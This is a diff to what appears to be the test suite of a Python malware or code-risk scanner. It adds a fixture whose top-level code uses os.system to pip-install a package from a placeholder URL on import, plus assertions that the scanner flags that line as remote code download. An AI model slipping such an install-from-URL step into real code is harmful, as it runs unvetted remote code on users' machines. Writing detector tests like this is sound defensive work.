@@ -309,3 +309,22 @@ def test_fixed_name_resolved_on_load_and_discarded_is_a_canary() -> None:
     found = matching(result, "dataExfiltration", 5, sink=["dns"])
     assert found and found[0].top_level is True
     assert not matching(result, "dataExfiltration", 10)  # the address is used
+
+
+PIP_FROM_URL = """\
+import os, sys
+
+os.system(f"{sys.executable} -m pip install https://files.example.invalid/p/extra-1.0.tar.gz")
+os.system(f"{sys.executable} -m pip install colorama")
+
+def add_plugin(url):
+    os.system(f"{sys.executable} -m pip install https://plugins.example.invalid/x.whl")
+"""
+
+
+def test_installing_from_a_url_on_load_runs_unvetted_code() -> None:
+    result = analyze(PIP_FROM_URL)
+    found = matching(result, "remoteCodeDownload", 3, pattern="installs-from-url")
+    assert found and found[0].top_level is True
+    assert not matching(result, "remoteCodeDownload", 4)  # a registry name
+    assert not matching(result, "remoteCodeDownload", 7)  # only when a user asks for it
